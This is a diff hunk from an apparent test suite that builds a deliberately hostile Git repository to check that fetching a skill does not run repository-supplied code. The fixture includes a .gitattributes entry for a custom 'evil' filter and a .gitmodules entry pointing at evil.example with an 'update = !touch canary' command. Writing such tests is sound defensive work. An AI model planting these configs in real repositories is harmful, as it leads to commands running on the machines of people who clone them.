@@ -68,7 +68,7 @@ describe.skipIf(program === null)('a repository on a Git server', () => {
     const canary = place.at('canary')
     const pointer = 'version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n'
     const commit = commitFiles(repository, {
-      ...{ 'SKILL.md': skillText('sorter'), 'large.bin': pointer, '.gitattributes': '* filter=evil text eol=crlf\n*.bin filter=lfs' },
+      'SKILL.md': skillText('sorter'), 'large.bin': pointer, '.gitattributes': '* filter=evil text eol=crlf\n*.bin filter=lfs',
       '.gitmodules': '[submodule "evil"]\n\tpath = evil\n\turl = https://evil.example/x.git\n\tupdate = !touch canary',
     })
     runGit(repository, 'update-index', '--add', '--cacheinfo', `160000,${commit},evil`)
